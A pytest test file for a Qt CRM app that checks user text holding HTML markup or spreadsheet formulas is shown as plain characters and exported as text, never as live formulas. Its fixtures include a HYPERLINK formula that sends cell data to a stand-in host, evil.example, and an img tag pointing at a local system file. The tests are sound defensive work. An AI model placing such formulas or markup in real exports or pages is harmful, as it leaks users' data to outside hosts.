"""User text is data, never markup or a formula: names made of HTML and spreadsheet formulas
go through the services unchanged, show as the characters typed in every label, tooltip and
card, and are written as text by every export."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from card_helpers import settled
from PySide6.QtCore import QModelIndex, QSettings, Qt, QThreadPool
from PySide6.QtWidgets import QAbstractItemView, QApplication, QLabel, QWidget
from sqlalchemy import select

from voronka.models.formula_guard import guard, unguard
from voronka.models.orm import Company, Contact, Deal, User
from voronka.models.services.companies import create_company
from voronka.models.services.contacts import create_contact
from voronka.models.services.deals import create_deal
from voronka.models.services.tasks import add_task
from voronka.models.services.team import update_user
from voronka.models.clock import local_now

MARKUP = '<b>Acme</b> <img src="file:///etc/hosts"> &amp; <a href="x">co</a>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PLUS = "+7 495 000-00-00"  # a phone-like text a spreadsheet would calculate


@pytest.fixture
def hostile(db):
    """A team whose member, company, person, deal and task are named in markup and formulas."""
    db.run(update_user, 1, name=MARKUP)
    db.run(update_user, 2, name=FORMULA)
    company = db.run(create_company, {"name": MARKUP}).created[0]
    person = db.run(create_contact, {"full_name": FORMULA, "company": company}).created[0]
    deal = db.run(create_deal, name=MARKUP, user_id=1, owner_id=1, company_id=company).created[0]
    other = db.run(create_deal, name=FORMULA, user_id=2, owner_id=2, source=PLUS).created[0]
    db.run(add_task, title=MARKUP, assignee_id=1, deal_id=deal, due_at=local_now())
    return {"company": company, "person": person, "deal": deal, "other": other}


@pytest.fixture
def ctx(db, tmp_path):
    from voronka.views.app_context import AppContext

    context = AppContext(db, QSettings(str(tmp_path / "settings.ini"), QSettings.Format.IniFormat), language="en")
    context.user_id = 1
    yield context
    QThreadPool.globalInstance().waitForDone()  # the board loads in the background


def test_services_keep_hostile_names_exactly_as_typed(db, hostile):
    with db.session() as s:
        assert s.get(Deal, hostile["deal"]).name == MARKUP
        assert s.get(Deal, hostile["other"]).name == FORMULA
        assert s.get(Company, hostile["company"]).name == MARKUP
        assert s.get(Contact, hostile["person"]).full_name == FORMULA
        assert s.scalar(select(User.name).where(User.id == 1)) == MARKUP


@pytest.mark.parametrize("kind, key, text", [("deal", "deal", MARKUP), ("company", "company", MARKUP),
                                             ("contact", "person", FORMULA)], ids=["deal", "company", "contact"])
def test_card_titles_show_the_characters_typed(ctx, hostile, qtbot, kind, key, text):
    from voronka.views.cards import open_card

    card = open_card(ctx, kind, hostile[key])
    qtbot.addWidget(card.window())
    assert settled(qtbot, card).title.text() == text
    assert card.title.textFormat() == Qt.TextFormat.PlainText
    assert_no_markup_shown(card.window())


def test_board_cards_and_headers_show_the_characters_typed(ctx, hostile, qtbot):
    from board_support import open_board

    page = open_board(ctx, qtbot)
    column = page.board.column("unsorted")
    assert column.model.card_of(hostile["deal"]).name == MARKUP  # the delegate paints it with drawText: plain
    assert column.model.card_of(hostile["deal"]).owner == MARKUP
    assert_no_markup_shown(page)


def test_every_page_and_card_shows_user_text_as_plain_text(ctx, hostile, qtbot):
    """Walks every page of the main window and every card: no label, tooltip or item tooltip
    that holds a hostile name lets Qt read it as markup."""
    from voronka.views.cards import open_card
    from voronka.views.main_window import MainWindow
    from voronka.views.pages import PAGE_KEYS

    win = MainWindow(ctx)
    qtbot.addWidget(win)
    win.resize(1366, 800)
    win.show()
    for key in PAGE_KEYS:
        win.show_page(key)
        assert_no_markup_shown(win)
    for kind, key in (("deal", "deal"), ("deal", "other"), ("company", "company"), ("contact", "person")):
        card = open_card(ctx, kind, hostile[key])
        qtbot.addWidget(card.window())
        settled(qtbot, card)
        assert_no_markup_shown(card.window())


def test_an_error_message_quoting_a_name_shows_the_characters(monkeypatch, qapp):
    from PySide6.QtGui import QTextDocument
    from PySide6.QtWidgets import QMessageBox

    from voronka.models.errors import VoronkaError
    from voronka.views.errors import show_error

    shown = []
    monkeypatch.setattr(QMessageBox, "warning", lambda parent, title, text: shown.append(text))
    show_error(None, VoronkaError(f"Deal {MARKUP} is closed"))
    document = QTextDocument()
    document.setHtml(shown[0])
    assert document.toPlainText() == f"Deal {MARKUP} is closed"  # read as rich text, shows the characters
    assert "<img" not in shown[0]


# --- what the walk checks ---------------------------------------------------------------------------
def _raw(text: str) -> bool:
    """Whether ``text`` carries a hostile name's markup unescaped."""
    return "<b>Acme</b>" in text or "<img src=" in text


def assert_no_markup_shown(root: QWidget) -> None:
    widgets = [root, *root.findChildren(QWidget)]
    for widget in widgets:
        if isinstance(widget, QLabel) and _raw(widget.text()):
            assert widget.textFormat() == Qt.TextFormat.PlainText, f"{widget.objectName() or widget} shows markup"
        assert not _raw(widget.toolTip()), f"the tooltip of {widget} is markup"
        if isinstance(widget, QAbstractItemView) and widget.model() is not None:
            model = widget.model()
            try:
                columns = model.columnCount(QModelIndex())
            except TypeError:  # a list model keeps columnCount private: one column
                columns = 1
            for r in range(min(model.rowCount(QModelIndex()), 50)):
                for c in range(columns):
                    tip = model.index(r, c).data(Qt.ItemDataRole.ToolTipRole)
                    assert not (isinstance(tip, str) and _raw(tip)), f"an item tooltip of {widget} is markup"
    QApplication.processEvents()


# --- exports ----------------------------------------------------------------------------------------
def test_csv_guard_marks_formula_text_and_reads_it_back():
    for text in (FORMULA, PLUS, "-5 off", "@SUM(A1)", "\tx", "\rx", "'=x", "''+x"):
        assert guard(text).startswith("'")
        assert unguard(guard(text)) == text
    for text in ("Acme", "'t Hooft", "", "1250.50", MARKUP):
        assert guard(text) == text and unguard(text) == text


def test_history_export_writes_names_as_text_and_imports_them_back(db, hostile, tmp_path):
    from voronka.models.db import open_database
    from voronka.models.history_import.export import export_history
    from voronka.models.history_import.writer import import_history

    export_history(db, tmp_path / "out")
    with open(tmp_path / "out" / "deals.csv", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    by_name = {r["name"]: r for r in rows}
    assert "'" + FORMULA in by_name and MARKUP in by_name
    assert by_name["'" + FORMULA]["owner"] == "'" + FORMULA and by_name["'" + FORMULA]["source"] == "'" + PLUS
    with open(tmp_path / "out" / "users.csv", encoding="utf-8") as fh:
        assert "'" + FORMULA in {r["name"] for r in csv.DictReader(fh)}
    target = open_database(tmp_path / "again.db", language="en")
    import_history(target, tmp_path / "out")
    with target.session() as s:
        names = set(s.scalars(select(Deal.name)))
        sources = set(s.scalars(select(Deal.source)))
        people = set(s.scalars(select(User.name)))
    target.close()
    assert {MARKUP, FORMULA} <= names and PLUS in sources and {MARKUP, FORMULA} <= people


@pytest.fixture
def hostile_bundle(tmp_path_factory):
    """A demo month whose team member and lost reason are named as formulas and markup."""
    from voronka.metrics.report_bundle import build_bundle
    from voronka.metrics.periods import parse_period
    from voronka.models.loader import load_frames
    from voronka.models.orm import LostReason
    from report_helpers import build_demo_db

    db = build_demo_db(tmp_path_factory.mktemp("hostile"), deals=300)
    ids = db.run(lambda s: list(s.scalars(select(User.id).where(User.role.in_(("sdr", "ae"))).order_by(User.id))))
    db.run(update_user, ids[0], name=FORMULA)
    db.run(update_user, ids[1], name=MARKUP)
    db.run(lambda s: setattr(s.scalars(select(LostReason)).first(), "text", FORMULA))
    bundle = build_bundle(load_frames(db, "sales"), parse_period("2026-W19"))
    bundle["owner_name"] = FORMULA
    db.close()
    return bundle


def test_xlsx_writes_every_hostile_name_as_a_string_never_a_formula(hostile_bundle, tmp_path, qapp):
    from voronka.views.exports.xlsx import write_xlsx

    path = tmp_path / "week.xlsx"
    write_xlsx(hostile_bundle, path, "en", exported_by=FORMULA)
    book = openpyxl.load_workbook(path)
    found = 0
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and FORMULA in cell.value:
                    found += 1
                    assert cell.data_type == "s"
    assert found >= 4  # header "whose numbers", "exported by", the users table, the trend header


def test_pdf_shows_hostile_names_as_their_characters(hostile_bundle, qapp):
    from datetime import datetime

    from voronka.views.reports.pdf import build_document

    doc = build_document(hostile_bundle, "en", MARKUP, datetime(2026, 5, 11, 9, 0), {})
    text = doc.toPlainText()
    assert FORMULA in text and MARKUP in text  # the markup is shown as characters, nothing was loaded


def test_report_csv_keeps_numbers_as_numbers(hostile_bundle):
    from voronka.metrics.report_files import write_csv

    rows = list(csv.reader(io.StringIO(write_csv(hostile_bundle, "en").decode("utf-8"))))
    assert rows[0] == ["id", "name", "value", "target"]
    assert all(not r[0].startswith(("=", "+", "-", "@")) for r in rows)
    numbers = [r[2] for r in rows[1:] if r[2]]
    assert numbers and all(float(v) == float(v) for v in numbers)


# --- dialogs that show user text ---------------------------------------------------------------------
TAG, IMG = "<b>x</b>", "<img src=x>"
HOSTILE_NAMES = (TAG, IMG, '=HYPERLINK("x")')


def shows_plainly(root: QWidget, text: str) -> bool:
    """Whether some label, item or the window title of ``root`` shows ``text`` as its characters."""
    if text in root.windowTitle():
        return True
    for label in root.findChildren(QLabel):
        if text in label.text() and label.textFormat() == Qt.TextFormat.PlainText:
            return True
    for view in root.findChildren(QAbstractItemView):
        model = view.model()
        try:
            columns = model.columnCount(QModelIndex()) if model is not None else 0
        except TypeError:  # a list model keeps columnCount private: one column
            columns = 1
        for r in range(model.rowCount(QModelIndex()) if model is not None else 0):
            for c in range(columns):
                if text in str(model.index(r, c).data() or ""):
                    return True
    return False


def assert_no_markup_in(root: QWidget) -> None:
    for label in root.findChildren(QLabel):
        if any(h in label.text() for h in (TAG, IMG)):
            assert label.textFormat() == Qt.TextFormat.PlainText, f"{label.text()!r} is read as markup"


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_board_dialogs_show_hostile_names_as_typed(ctx, qtbot, name):
    from voronka.models.queries.board import BoardStage, LostReasonRow
    from voronka.views.board.dialogs import LostDialog, RequiredFieldsDialog
    from voronka.views.board.quick_create import QuickCreateDialog

    required = RequiredFieldsDialog(["amount", "source"], name, name)
    qtbot.addWidget(required)
    assert shows_plainly(required, f"«{name}»")
    assert_no_markup_in(required)
    lost = LostDialog([LostReasonRow(1, name, name, name, None)], "en", 1)
    qtbot.addWidget(lost)
    assert lost.reason.findText(name) >= 0  # combo items are plain text
    assert_no_markup_in(lost)
    stage = BoardStage(1, "unsorted", name, name, 0, None, False, None, None, None, [], None)
    ctx.db.run(create_company, {"name": name})
    quick = QuickCreateDialog(ctx, "sales", stage)
    qtbot.addWidget(quick)
    assert name in quick.windowTitle() and name in quick._companies
    assert_no_markup_in(quick)


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_card_dialogs_show_hostile_names_as_typed(qtbot, name):
    from voronka.models.services.companies import Duplicate
    from voronka.views.cards.dialogs import DuplicateDialog, PickRecordDialog

    duplicates = DuplicateDialog([Duplicate(1, name, "website", name)])
    qtbot.addWidget(duplicates)
    assert shows_plainly(duplicates, name)
    assert_no_markup_in(duplicates)
    merge = PickRecordDialog(name, f"Merge «{name}» into:", [(1, name), (2, "Other")])
    qtbot.addWidget(merge)
    assert shows_plainly(merge, f"«{name}»") and merge.combo.findText(name) >= 0
    assert_no_markup_in(merge)


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_the_conflict_view_shows_hostile_values_and_names_as_typed(qtbot, name):
    from datetime import datetime

    from voronka.models import errors
    from voronka.views.conflicts.dialog import ConflictDialog
    from voronka.views.errors import field_label

    conflict = errors.EditConflict("deal", 1, [errors.FieldConflict("name", "old", name, name + " mine")], 3,
                                   {"name": name}, name, datetime(2026, 11, 30, 14, 5))
    dialog = ConflictDialog(conflict, field_label)
    qtbot.addWidget(dialog)
    assert dialog.cell(0, 1) == name and dialog.cell(0, 2) == name + " mine"
    assert shows_plainly(dialog, name) and name in dialog.table.horizontalHeaderItem(1).text()
    assert_no_markup_in(dialog)


def test_the_import_revert_question_shows_file_names_as_typed(monkeypatch, qapp):
    from PySide6.QtGui import QTextDocument
    from PySide6.QtWidgets import QMessageBox

    from voronka.views.importing import imports_tab

    asked = []
    monkeypatch.setattr(QMessageBox, "question", lambda parent, title, text, *a: asked.append(text)
                        or QMessageBox.StandardButton.No)

    class Row:
        id, reverted_at, counts, files = 1, None, {"deals": 2}, [f"{TAG}{IMG}.csv"]

    tab = imports_tab.ImportsTab.__new__(imports_tab.ImportsTab)
    monkeypatch.setattr(imports_tab.ImportsTab, "selected", lambda self: Row())
    monkeypatch.setattr(imports_tab.ImportsTab, "tr", lambda self, text: text, raising=False)
    assert imports_tab.ImportsTab.revert_selected(tab) is False
    document = QTextDocument()
    document.setHtml(asked[0])
    assert f"{TAG}{IMG}.csv" in document.toPlainText() and "<img" not in asked[0]
